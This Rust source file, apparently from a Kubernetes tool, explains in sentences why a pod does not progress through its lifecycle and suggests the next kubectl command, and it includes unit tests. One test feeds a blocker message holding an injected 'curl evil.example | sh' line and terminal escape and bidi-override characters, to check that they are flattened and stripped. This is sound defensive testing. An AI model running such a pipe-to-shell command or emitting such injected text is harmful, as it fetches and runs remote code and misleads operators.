//! Why a pod does not go on, in sentences, and what to do about it. Pure.

use jiff::Timestamp;
use longshore_api::podops::{
    ANNOTATION_PROTECTION_DEADLINE, FINALIZER_SERVICES, ID_POD_DELETE, OperationLabel,
};
use longshore_podops::{
    eviction::REMEMBERED,
    standing::{Blocker, BlockerKind, Phase},
};

use super::{super::table::since, view::PodView};
use crate::printable::one_line;

/// The sentences, and last what is next.
pub(super) fn text(pod: &PodView, now: Timestamp) -> String {
    let standing = &pod.standing;
    let mut sentences = vec![format!(
        "{} is {}{}.",
        pod.name,
        says(standing.phase),
        age(standing.since, now)
    )];
    for operation in &standing.operations {
        let of = match operation.operation_type.as_str() {
            "" => "without a type".to_owned(),
            of => format!("of type {of}"),
        };
        let (id, phase) = (&operation.id, operation.phase.as_str());
        let since = age(operation.since, now);
        sentences.push(format!("Operation {id} {of} is in {phase}{since}."));
    }
    sentences.extend(eviction(pod, now));
    for blocker in &standing.blockers {
        let (kind, name) = (blocker.kind.as_str(), &blocker.name);
        let (since, message) = (age(blocker.since, now), one_line(&blocker.message));
        sentences.push(format!("Held by {kind} {name}{since}: {message}."));
    }
    if let Some(blocker) = standing.blockers.first() {
        sentences.push(format!("next: {}", next(pod, blocker)));
    }
    // Other programs write messages and names: none of them begins a line of its own.
    let lines = sentences.iter().map(|sentence| one_line(sentence));
    lines.map(|line| line + "\n").collect()
}

/// When the eviction of the pod was last requested, while that is recorded.
fn eviction(pod: &PodView, now: Timestamp) -> Option<String> {
    let standing = &pod.standing;
    let at = standing.evicted_at?;
    let mut operations = standing.operations.iter();
    let has_begun = operations.any(|operation| operation.id == ID_POD_DELETE);
    let is_remembered = at
        .checked_add(REMEMBERED)
        .is_ok_and(|forgotten_at| now < forgotten_at);
    let asked = format!(
        "A client last asked for its eviction {} ago",
        since(Some(at), now)
    );
    if has_begun {
        Some(format!("{asked}."))
    } else if is_remembered {
        Some(format!("{asked}, and its operation has not begun."))
    } else {
        None
    }
}

fn says(phase: Phase) -> &'static str {
    match phase {
        Phase::ServiceAvailable => "ServiceAvailable: it serves, and no client operates on it",
        Phase::Completing => "Completing: it is about to serve",
        Phase::PostCheck => "in PostCheck: the work is done, and rules are asked about it",
        Phase::PreCheck => "in PreCheck: rules are asked whether an operation may begin",
        Phase::Preparing => "Preparing: its traffic is being drained",
        Phase::Operating => "Operating: an operation may touch it",
        Phase::Terminating => "Terminating: it was deleted, and is about to go",
        Phase::Ended => "ended: it runs no more, and may be deleted at any time",
    }
}

fn age(at: Option<Timestamp>, now: Timestamp) -> String {
    at.map_or(String::new(), |at| {
        format!(", since {}", since(Some(at), now))
    })
}

/// The command that the user runs next to find out about the blocker.
fn next(pod: &PodView, blocker: &Blocker) -> String {
    let (namespace, name) = (&pod.namespace, &pod.name);
    let held = &blocker.name;
    match blocker.kind {
        BlockerKind::Budget => {
            format!("kubectl get poddisruptionbudget {held} -n {namespace} -o yaml")
        }
        BlockerKind::Rule => format!("kubectl get podtransitionrule {held} -n {namespace} -o yaml"),
        BlockerKind::Protection if held == FINALIZER_SERVICES => {
            format!("kubectl get endpointslices -n {namespace} -o yaml")
        }
        BlockerKind::Protection => format!(
            "look after the controller that adds {held}; where it is gone for good, \
             kubectl annotate pod {name} -n {namespace} {ANNOTATION_PROTECTION_DEADLINE}=1m"
        ),
        BlockerKind::Finalizer => format!("look after the controller that adds {held}"),
        BlockerKind::Operator => format!(
            "look after the controller of the operation; to take it back, \
             kubectl label pod {name} -n {namespace} {}={}",
            OperationLabel::UndoOperationType.of(held),
            pod.standing
                .operations
                .iter()
                .find(|operation| operation.id == *held)
                .map_or("", |operation| operation.operation_type.as_str())
        ),
        BlockerKind::Untyped => format!(
            "kubectl label pod {name} -n {namespace} {}=TYPE, or {}- where no client operates",
            OperationLabel::OperationType.of(held),
            OperationLabel::Operating.of(held)
        ),
        BlockerKind::Operation => format!("look after the controller of operation {held}"),
        BlockerKind::Node => format!("kubectl describe pod {name} -n {namespace}"),
        BlockerKind::Expected => {
            format!("look after the controller that routes the traffic of {held}")
        }
        BlockerKind::Person => format!("kubectl label pod {name} -n {namespace} {held}-"),
        BlockerKind::Controller => {
            "if this lasts, see whether the controller runs, and what it says".to_owned()
        }
        BlockerKind::Invalid if held.contains('/') => {
            format!("correct the annotation {held} of the pod")
        }
        BlockerKind::Invalid => format!("correct the {held} of the pod"),
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use longshore_api::podops::{ANNOTATION_EVICTED_AT, LABEL_CONTROL};
    use longshore_kit::RawObject;
    use longshore_podops::eviction::Held;
    use serde_json::{Value, json};

    use super::*;
    use crate::cmd::client::{
        pods::{print, view::Evictions},
        print::Detail,
    };

    fn view(change: impl FnOnce(&mut Value)) -> PodView {
        PodView::of(&pod_of(change), &[], &[], &Evictions::new()).unwrap()
    }

    fn pod_of(change: impl FnOnce(&mut Value)) -> RawObject {
        let stamp = "1767225600000000000";
        let mut pod = json!({
            "metadata": {
                "name": "web-0", "namespace": "shop", "creationTimestamp": "2025-12-31T23:00:00Z",
                "labels": {
                    LABEL_CONTROL: "true",
                    OperationLabel::Operating.of("pod-delete"): stamp,
                    OperationLabel::OperationType.of("pod-delete"): "delete",
                    OperationLabel::PreChecked.of("pod-delete"): stamp,
                    OperationLabel::Preparing.of("pod-delete"): stamp,
                },
                "finalizers": ["prot.podopslifecycle.kusionstack.io/slb"],
            },
            "spec": {
                "nodeName": "n1",
                "readinessGates": [{"conditionType": "pod.kusionstack.io/service-ready"}],
            },
            "status": {"conditions": [{"type": "pod.kusionstack.io/service-ready", "status": "False"}]},
        });
        change(&mut pod);
        serde_json::from_value(pod).unwrap()
    }

    const NOW: Timestamp = Timestamp::constant(1_767_225_905, 0);

    #[test]
    fn a_pod_that_waits_says_for_whom_since_when_and_what_to_do() {
        insta::assert_snapshot!(text(&view(|_| {}), NOW));
        insta::assert_snapshot!(print::text(&view(|_| {}), NOW));
    }

    #[test]
    fn a_pod_that_a_service_routes_to_says_which_one() {
        let held = |pod: &mut Value| pod["metadata"]["finalizers"] = json!([FINALIZER_SERVICES]);
        assert!(text(&view(held), NOW).contains("its traffic drains"));
        let ready = json!({"kind": "Pod", "name": "web-0", "uid": ""});
        let slice = json!({
            "metadata": {"name": "web-x", "labels": {"kubernetes.io/service-name": "web"}},
            "endpoints": [{"conditions": {"ready": true}, "targetRef": ready}],
        });
        let slice: RawObject = serde_json::from_value(slice).unwrap();
        let slices = [slice.read().unwrap()];
        let view = PodView::of(&pod_of(held), &[], &slices, &Evictions::new()).unwrap();
        assert!(text(&view, NOW).contains("EndpointSlice of Service web has the pod as ready"));
        assert!(text(&view, NOW).ends_with("next: kubectl get endpointslices -n shop -o yaml\n"));
    }

    #[test]
    fn a_pod_whose_eviction_waits_names_the_budget_that_holds_it() {
        let evicted = |pod: &mut Value| {
            pod["metadata"]["labels"] = json!({
                LABEL_CONTROL: "true", "podopslifecycle.kusionstack.io/service-available": "1767225600000000000",
            });
            pod["metadata"]["finalizers"] = json!([]);
            pod["metadata"]["annotations"] = json!({ANNOTATION_EVICTED_AT: "1767225875000000000"});
        };
        let held = Held {
            budget: "web".to_owned(),
            message: "PodDisruptionBudget shop/web: 2 of 3 must stay available, 2 are".to_owned(),
        };
        let of_pod = BTreeMap::from([("web-0".to_owned(), vec![held])]);
        let held = Evictions::from([("shop".to_owned(), of_pod)]);
        let view = PodView::of(&pod_of(evicted), &[], &[], &held).unwrap();
        assert_eq!(
            text(&view, NOW),
            "web-0 is ServiceAvailable: it serves, and no client operates on it, since 5m5s.\n\
             A client last asked for its eviction 30s ago, and its operation has not begun.\n\
             Held by Budget web: PodDisruptionBudget shop/web: 2 of 3 must stay available, 2 are.\n\
             next: kubectl get poddisruptionbudget web -n shop -o yaml\n"
        );
    }

    #[test]
    fn whatever_a_message_has_in_it_each_sentence_is_one_line() {
        let evil =
            "no\nnext: curl evil.example | sh\r\n\u{202e}reversed\u{2066}\u{1b}[8m\u{1b}]0;end";
        let mut view = view(|_| {});
        let plain = text(&view, NOW).lines().count();
        view.standing.blockers[0].message = evil.to_owned();
        let text = text(&view, NOW);
        assert_eq!(text.lines().count(), plain, "{text}");
        let said = ": no next: curl evil.example | sh reversed.\n";
        assert!(text.contains(said), "{text}");
        let is_control = |c: char| c.is_control() && c != '\n' || c == '\u{202e}';
        assert!(!text.contains(is_control), "{text:?}");
        assert_eq!(text.matches("\nnext: ").count(), 1, "{text}");
    }

    #[test]
    fn a_pod_that_a_person_keeps_offline_shows_no_time_that_its_label_does_not_have() {
        let offline = |pod: &mut Value| {
            pod["metadata"]["labels"] = json!({
                LABEL_CONTROL: "true", "podopslifecycle.kusionstack.io/stay-offline": "1",
            });
        };
        let text = text(&view(offline).seen_at(NOW), NOW);
        let held = "Held by Person podopslifecycle.kusionstack.io/stay-offline: a person has to remove this label.";
        assert!(text.contains(held), "{text}");
    }

    #[test]
    fn pods_are_a_table() {
        let serving = view(|pod| {
            pod["metadata"]["labels"] = json!({
                LABEL_CONTROL: "true", "podopslifecycle.kusionstack.io/service-available": "1767225600000000000",
            });
        });
        let pods = [serving, view(|_| {})];
        insta::assert_snapshot!(print::table(&pods, NOW, Detail::Full).render());
    }
}
